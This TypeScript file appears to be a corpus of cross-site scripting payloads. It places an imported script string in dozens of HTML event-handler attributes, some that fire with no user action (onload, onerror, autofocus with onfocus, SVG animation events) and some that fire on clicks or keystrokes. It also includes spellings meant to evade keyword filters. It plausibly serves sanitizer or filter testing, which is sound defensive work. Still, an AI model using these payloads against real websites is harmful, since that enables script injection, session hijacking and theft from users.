import { image, script } from './payload.ts';

const byItself: [event: string, markup: string][] = [
  ['load', '<body HANDLER>'],
  ['load', '<svg HANDLER>'],
  ['load', '<svg/HANDLER>'],
  ['load', '<iframe HANDLER></iframe>'],
  ['load', '<link rel=stylesheet href=data:text/css, HANDLER>'],
  ['load', '<style HANDLER></style>'],
  ['load', '<object data=data:text/html, HANDLER></object>'],
  ['error', '<img src=x HANDLER>'],
  ['error', '<img src HANDLER>'],
  ['error', '<image src=x HANDLER>'],
  ['error', '<audio src=x HANDLER></audio>'],
  ['error', '<video src=x HANDLER></video>'],
  ['error', '<video><source src=x HANDLER></video>'],
  ['error', '<input type=image src=x HANDLER>'],
  ['error', '<script src=x HANDLER></script>'],
  ['error', '<embed src=x HANDLER>'],
  ['error', '<svg><image href=x HANDLER></image></svg>'],
  ['error', '<picture><img src=x HANDLER></picture>'],
  ['toggle', '<details open HANDLER><summary>x</summary></details>'],
  ['toggle', '<div popover id=p HANDLER></div><button popovertarget=p>x</button>'],
  ['focus', '<input autofocus HANDLER>'],
  ['focus', '<a href=# autofocus HANDLER>x</a>'],
  ['focus', '<p tabindex=0 autofocus HANDLER>x</p>'],
  ['focus', '<p contenteditable autofocus HANDLER>x</p>'],
  ['focus', '<select autofocus HANDLER></select>'],
  ['focus', '<textarea autofocus HANDLER></textarea>'],
  ['focusin', '<button autofocus HANDLER>x</button>'],
  ['start', '<marquee HANDLER>x</marquee>'],
  ['begin', '<svg><animate attributeName=x dur=1s HANDLER></animate></svg>'],
  ['end', '<svg><set attributeName=x dur=1ms HANDLER></set></svg>'],
  ['animationstart', '<p style=animation-name:x HANDLER>x</p>'],
  ['transitionend', '<p style=transition:outline+1s HANDLER>x</p>'],
  ['pageshow', '<body HANDLER>'],
  ['hashchange', '<body HANDLER>'],
  ['message', '<body HANDLER>'],
  ['scroll', '<body HANDLER>'],
  ['beforetoggle', '<dialog open HANDLER></dialog>'],
  ['readystatechange', '<xml HANDLER>'],
  ['propertychange', '<p HANDLER>x</p>'],
  ['securitypolicyviolation', '<p HANDLER>x</p>'],
];

const byTouch =
  'click dblclick mousedown mouseup mouseover mouseenter mousemove mouseout pointerdown pointerover pointerenter pointerrawupdate touchstart wheel contextmenu auxclick drag dragstart dragover drop copy cut paste keydown keypress keyup input beforeinput selectstart selectionchange'.split(
    ' ',
  );

/** Ways of writing an attribute's name that a word filter does not notice. */
const spellings = [
  `<p ONCLICK=${script}>x</p>`,
  `<p OnClIcK='${script}'>x</p>`,
  `<p/onclick="${script}"/>x</p>`,
  `<p\nonclick\n=\n"${script}">x</p>`,
  `<p\tonclick\t=\t${script}>x</p>`,
  `<p\fonclick=${script}>x</p>`,
  `<p x="1"onclick=${script}>x</p>`,
  `<p x='"'onclick=${script}>x</p>`,
  `<p x=">" onclick=${script}>x</p>`,
  `<p a=b'c onclick=${script}>x</p>`,
  `<p """><b onclick=${script}>x</b>`,
  `<p =onclick=${script}>x</p>`,
  `<p data-onclick=1 onclick=${script}>x</p>`,
  `<a href=https://a.example onclick=${script}>x</a>`,
  `<a href="https://a.example"onfocus="${script}"autofocus>x</a>`,
  `<strong onpointerover=${script}>x</strong>`,
  `<blockquote onbeforecopy=${script}>x</blockquote>`,
  `<li oncontentvisibilityautostatechange=${script} style=content-visibility:auto>x</li>`,
];

export const handlers: readonly string[] = [
  image,
  ...byItself.map(([event, markup]) => markup.replace('HANDLER', `on${event}="${script}"`)),
  ...byTouch.map((event) => `<p on${event}="${script}">x</p>`),
  ...spellings,
];
